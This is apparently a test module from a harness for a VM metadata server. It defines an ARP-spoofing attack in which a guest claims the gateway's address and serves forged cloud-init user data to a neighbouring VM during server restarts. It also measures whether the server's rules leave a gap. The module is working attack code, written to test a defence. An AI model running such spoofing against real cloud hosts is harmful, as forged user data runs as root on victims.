"""A guest answers its neighbour's requests in the server's place, while a server that chooses bridges by their domains starts.

By default the server serves a bridge once it knows an enabled domain there, so it knows of none when it starts, and of none for as long as libvirt does
not respond. The forger claims the gateway's address towards victim-1 and answers what it gets. Gained: user data of the forger's, which cloud-init runs
as root. In the way: the ports of all recorded bridges have the rules of an ended server until a new one has its own, which guard them from the
beginning (chains `from_port_…`, `request_…`).
"""

import contextlib
import socket
import subprocess
import threading
import time

import attack
import space
import wire
from attack import Outcome
from field import METADATA, Field
from host import Host

FALSE = b"FALSE-USER-DATA"
REQUEST = b"GET /latest/user-data HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n"
# There is no libvirt at this address.
NOWHERE = "test+unix:///default?socket=/run/siege/nowhere"
RESTARTS = 4


def serve() -> None:
    """Answers everyone."""
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", 80))
    listener.listen(16)
    while True:
        one, _ = listener.accept()
        with contextlib.suppress(OSError):
            one.settimeout(1)
            one.recv(4096)
            one.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(FALSE) + FALSE)
        one.close()


class Asking:
    """Requests of a victim without a pause, each as short as a packet's way, so that no moment without rules is missed."""

    def __init__(self, name: str):
        """Begins."""
        self.answers: dict[str, int] = {}
        self._name, self._is_over = name, threading.Event()
        self._threads = [threading.Thread(target=self._run) for _ in range(4)]
        for thread in self._threads:
            thread.start()

    def _run(self) -> None:
        space.enter(self._name)
        while not self._is_over.is_set():
            answer = self._ask()
            self.answers[answer] = self.answers.get(answer, 0) + 1
            time.sleep(0.003)

    @staticmethod
    def _ask() -> str:
        data = b""
        with socket.socket() as one, contextlib.suppress(OSError):
            one.settimeout(0.015)
            one.connect((METADATA[4], 80))
            one.sendall(REQUEST)
            while part := one.recv(4096):
                data += part
        return data.split(b"\r\n\r\n", 1)[-1][:24].decode(errors="replace") or "none"

    def end(self) -> None:
        """Ends."""
        self._is_over.set()
        for thread in self._threads:
            thread.join()


class Attack(attack.Attack):
    """The forger; victim-1 asks; all taps stay."""

    hosts = ("address", "redirect")
    families = (4,)
    has_victims = False
    proofs = (("address", 4),)

    def __init__(self):
        """With its defence."""
        self._forgets = False

    def attack(self, field: Field) -> None:
        """Claims the gateway's address, and answers."""
        subprocess.run(["ip", "address", "add", METADATA[4] + "/32", "dev", "lo"], check=False)
        threading.Thread(target=serve, daemon=True).start()
        card, victim, sent = wire.Wire(), field.victims[0], 0
        gateway = wire.ip_text(field.gateway)
        field.ready()
        while field.goes_on():
            card.send(wire.arp(victim.link, field.me.link, 2, (field.me.link, gateway), (victim.link, victim.ip4)))
            sent += 1
            time.sleep(0.005)
        field.report["sent"] = sent
        subprocess.run(["ip", "address", "del", METADATA[4] + "/32", "dev", "lo"], check=False)

    def during(self, host: Host, outcome: Outcome) -> None:
        """Restarts the server, with libvirt and without."""
        server = host.server
        named, server.bridges = server.bridges, ()
        asking = Asking(host.victims[0].name)
        try:
            for number in range(RESTARTS):
                server.end()
                if self._forgets:
                    host.forget_rules()
                    time.sleep(0.3)
                server.spawn(uri=NOWHERE if number == RESTARTS - 1 else "")
                time.sleep(1.5)
        finally:
            asking.end()
            server.end()
            server.bridges = named
            server.start(*server.options)
        outcome.host_report["answers"] = asking.answers

    def gained(self, outcome: Outcome) -> str | None:
        """False user data."""
        found = outcome.host_report["answers"]
        if not outcome.forger["sent"] or not any("USER-DATA-OF" in text for text in found):
            raise space.Failure(f"victim-1 was never served: the attack does not work: {found}")
        false = sum(count for text, count in found.items() if text.startswith("FALSE"))
        return f"victim-1 took {false} answers of the forger's" if false else None

    def weaken(self, host: Host) -> None:
        """No rules are left between two servers."""
        self._forgets = True
